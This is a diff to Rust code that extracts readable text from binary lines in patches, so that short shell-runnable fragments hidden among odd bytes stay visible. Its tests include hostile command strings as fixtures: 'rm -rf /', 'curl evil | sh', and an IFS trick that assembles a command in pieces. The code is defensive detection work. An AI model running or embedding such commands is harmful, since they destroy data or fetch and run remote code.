@@ -17,7 +17,7 @@ use crate::{
 
 /// The beginning of a file's part of a patch. Every line of a file has a sign before it.
 const HEADER: &[u8] = b"diff --git ";
-/// The shortest text that is shown from a line of a binary file: no harmful command is shorter.
+/// The shortest text that is shown from any place in a line of a binary file. Shorter text is shown if a shell could run it.
 const SHORTEST_TEXT: usize = 6;
 
 /// The differences between two commits or trees.
@@ -295,15 +295,29 @@ fn text_lines(text: &str) -> String {
     if others > 1 { shown + &format!("[{} lines that are not text]\n", others - 1) } else { shown }
 }
 
-/// The text in a line of a patch: all of it, or its longer runs of text, with a mark for each gap.
+/// The text in a line of a patch: all of it if at least half is text, otherwise its runs of text that are longer or that a
+/// shell could run, with a mark for each gap.
 fn text_in(line: &str) -> Option<String> {
-    if !line.chars().any(|c| is_odd(&c)) {
+    let odd = line.chars().filter(is_odd).count();
+    if odd == 0 {
         return (line.len() > 1).then(|| line.to_owned());
     }
     let sign = line.chars().next().filter(|sign| "+- ".contains(*sign))?;
-    let parts = line[1..].split(|c| is_odd(&c)).filter(|part| part.trim().chars().count() >= SHORTEST_TEXT);
-    let parts: Vec<&str> = parts.collect();
+    if odd * 2 < line.chars().count() {
+        return Some(line.replace(|c| is_odd(&c), "\u{fffd}"));
+    }
+    let mut parts = line[1..].split(|c| is_odd(&c)).map(str::trim);
+    let first = parts.next().unwrap_or_default();
+    let others = parts.filter(|part| part.chars().count() >= SHORTEST_TEXT || begins_command(part));
+    let parts: Vec<&str> = Some(first).filter(|first| !first.is_empty()).into_iter().chain(others).collect();
     (!parts.is_empty()).then(|| format!("{sign}\u{fffd}{}\u{fffd}", parts.join("\u{fffd}")))
+}
+
+/// Whether a shell could begin a command in a short run of text. For it, the bytes around are parts of words, so a command
+/// begins only at the start of a line, or after an operator in the run itself.
+fn begins_command(part: &str) -> bool {
+    let after = part.split_once([';', '&', '|', '(', '{', '`']).map(|(_, after)| after);
+    after.is_some_and(|after| after.chars().filter(|c| c.is_alphanumeric() || "$._".contains(*c)).count() > 1)
 }
 
 /// Whether it contains a zero byte and more than a tenth is not text: a single such byte in a script hides nothing.
@@ -332,6 +346,18 @@ mod tests {
         assert!(words.ends_with("differ\n@@ -1 +1 @@\n+rm -rf /\n[1 lines that are not text]\n"), "{words}");
         let marked = [head.as_bytes(), b"+curl evil | sh #\x01\n+", &[0, 1, 2, 255].repeat(40)].concat();
         assert!(shown(&marked, "").contains("curl evil | sh #"), "{}", shown(&marked, ""));
+    }
+
+    #[test]
+    fn commands_in_short_pieces_are_shown() {
+        let head = "diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n";
+        let odd = "\x01".repeat(20);
+        let lines = format!("+IFS=\x01\n+a=h$a\x01\n+a=s$a{odd}\n+{odd};$a;{odd}\n+{odd}\0\n");
+        let words = shown(format!("{head}{lines}").as_bytes(), "");
+        for piece in ["+IFS=", "+a=h$a", "a=s$a", ";$a;"] {
+            assert!(words.contains(piece), "{piece}: {words}");
+        }
+        assert!(words.ends_with("[1 lines that are not text]\n"), "{words}");
     }
 
     #[test]
